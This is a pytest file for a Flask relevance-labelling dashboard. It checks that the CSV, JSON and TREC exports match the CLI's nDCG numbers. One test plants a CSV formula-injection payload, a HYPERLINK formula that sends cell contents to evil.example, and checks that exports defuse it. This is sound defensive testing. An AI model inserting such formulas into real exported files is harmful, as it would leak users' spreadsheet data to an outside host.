"""Exports: CSV and JSON with the CLI's numbers, TREC qrels and trec_eval's -q layout."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from ndcg_labeler.extensions import db
from ndcg_labeler.models import Query
from tests.factory import Demo


def _cli(runner: FlaskCliRunner, *args: str) -> str:
    result = runner.invoke(args=list(args))
    assert result.exit_code == 0, result.output
    return result.output


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.parametrize("options", ["", "?k=3", "?k=5&gain=exp&ideal=retrieved"])
def test_run_json_is_the_cli_json(
    as_admin: FlaskClient, runner: FlaskCliRunner, dash: Demo, options: str
) -> None:
    args = {"": [], "?k=3": ["--k", "3"]}.get(
        options, ["--k", "5", "--gain", "exp", "--ideal", "retrieved"]
    )
    cli = _cli(runner, "run", "score", "dash", "A", *args, "--json")
    response = as_admin.get(dash.url(f"/export/runs/{dash.run_a}/queries.json{options}"))
    assert response.mimetype == "application/json"
    assert response.get_data(as_text=True) == cli  # byte for byte, keys in the same order


def test_run_csv_has_the_json_numbers(as_admin: FlaskClient, dash: Demo) -> None:
    data = as_admin.get(dash.url(f"/export/runs/{dash.run_b}/queries.json?k=3")).json
    response = as_admin.get(dash.url(f"/export/runs/{dash.run_b}/queries.csv?k=3"))
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _rows(response.data)
    assert [r["qid"] for r in rows] == [q["qid"] for q in data["queries"]]
    for row, query in zip(rows, data["queries"], strict=True):
        for name in ("ndcg", "dcg", "idcg", "gap", "judged_at_k"):
            expected = query[name]
            assert (float(row[name]) if row[name] else None) == expected, name
        assert int(row["num_rel"]) == query["num_rel"]
    by_qid = {r["qid"]: r for r in rows}
    assert by_qid["q5"]["missing"] == "true" and by_qid["q5"]["ndcg"] == "0.0"
    assert by_qid["q4"]["ndcg"] == "" and by_qid["q4"]["one_minus_ndcg"] == ""
    assert by_qid["q3"]["query"] == "<b>dress</b> code"


def test_trec_export_is_the_cli_trec(as_admin: FlaskClient, runner: FlaskCliRunner, dash: Demo):
    cli = _cli(runner, "run", "score", "dash", "A", "--k", "3", "--trec")
    body = as_admin.get(dash.url(f"/export/runs/{dash.run_a}/trec_eval.txt?k=3"))
    assert body.get_data(as_text=True) == cli


def test_qrels_export_is_flask_qrels_export(
    as_admin: FlaskClient, runner: FlaskCliRunner, dash: Demo
) -> None:
    cli = _cli(runner, "qrels", "export", "dash")
    assert as_admin.get(dash.url("/export/qrels.txt")).get_data(as_text=True) == cli
    assert cli.splitlines()[0] == "q1 0 a 3"


def test_overview_exports(as_admin: FlaskClient, runner: FlaskCliRunner, dash: Demo) -> None:
    data = as_admin.get(dash.url("/export/overview.json?k=3")).json
    a = json.loads(_cli(runner, "run", "score", "dash", "A", "--k", "3", "--json"))
    assert data["runs"][0]["mean_ndcg"] == a["mean_ndcg"]
    assert data["runs"][0]["queries_in_mean"] == a["queries_in_mean"]
    assert data["runs"][0]["ci_high"] == a["ci_high"]
    assert (data["k"], data["aggregation"]) == (3, "median")
    rows = _rows(as_admin.get(dash.url("/export/overview.csv?k=3")).data)
    assert [r["run"] for r in rows] == ["A", "B"]
    assert float(rows[0]["mean_ndcg"]) == a["mean_ndcg"]
    assert (float(rows[0]["ci_low"]), rows[0]["n"], rows[0]["ci_method"]) == (a["ci_low"], "4", "t")
    assert (rows[1]["missing"], rows[1]["undefined"]) == ("2", "1")


def test_compare_exports_are_the_cli(
    as_admin: FlaskClient, runner: FlaskCliRunner, dash: Demo
) -> None:
    cli = _cli(runner, "run", "compare", "dash", "A", "B", "--k", "3", "--json")
    both = f"run={dash.run_a}&run={dash.run_b}&k=3"
    assert as_admin.get(dash.url(f"/export/compare.json?{both}")).get_data(as_text=True) == cli
    rows = _rows(as_admin.get(dash.url(f"/export/compare.csv?{both}")).data)
    queries = json.loads(cli)["queries"]
    # The header names the measure and which run is which, and the delta's direction.
    assert list(rows[0]) == [
        "qid", "query", "ndcg_cut_3:A", "ndcg_cut_3:B", "delta_b_minus_a",
        "a_if_unjudged_top", "b_if_unjudged_top", "a_condensed", "b_condensed",
    ]  # fmt: skip
    assert [r["qid"] for r in rows] == [q["qid"] for q in queries]
    assert [float(r["ndcg_cut_3:A"]) for r in rows] == [q["a"] for q in queries]
    assert [float(r["ndcg_cut_3:B"]) for r in rows] == [q["b"] for q in queries]
    assert [float(r["delta_b_minus_a"]) for r in rows] == [q["b"] - q["a"] for q in queries]
    swapped = _rows(
        as_admin.get(dash.url(f"/export/compare.csv?run={dash.run_b}&run={dash.run_a}")).data
    )
    assert list(swapped[0])[2:5] == ["ndcg_cut_10:B", "ndcg_cut_10:A", "delta_b_minus_a"]


def test_drill_down_exports(app: Flask, as_admin: FlaskClient, dash: Demo) -> None:
    with app.app_context():
        q1 = db.session.scalar(sa.select(Query.id).where(Query.qid == "q1"))
    base = dash.url(f"/export/runs/{dash.run_a}/queries/{q1}")
    data = as_admin.get(base + ".json?k=3").json
    assert [r["docid"] for r in data["ranked"]] == ["c", "d", "a"]
    assert data["ordering_loss"] + data["recall_loss"] == pytest.approx(data["gap"])
    rows = _rows(as_admin.get(base + ".csv?k=3").data)
    assert [(r["list"], r["docid"]) for r in rows] == [
        ("run", "c"),
        ("run", "d"),
        ("run", "a"),
        ("ideal", "a"),
        ("ideal", "x"),
        ("ideal", "b"),
    ]
    assert float(rows[2]["contribution"]) == data["ranked"][2]["contribution"]


def test_csv_exports_defuse_formula_cells(app: Flask, as_admin: FlaskClient, dash: Demo) -> None:
    """A query text a spreadsheet would run as a formula is exported with a leading
    apostrophe in every dashboard CSV; ids that are plain numbers stay as they are."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with app.app_context():
        query = db.session.scalar(sa.select(Query).where(Query.qid == "q1"))
        query.text = hostile
        db.session.commit()
    urls = [
        f"/export/runs/{dash.run_a}/queries.csv?k=3",
        "/export/overview.csv",
        f"/export/compare.csv?run={dash.run_a}&run={dash.run_b}",
    ]
    for url in urls:
        body = as_admin.get(dash.url(url)).get_data(as_text=True)
        for row in csv.reader(io.StringIO(body)):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row), (url, row)
    run_rows = _rows(as_admin.get(dash.url(urls[0])).data)
    assert {r["qid"]: r["query"] for r in run_rows}["q1"] == "'" + hostile
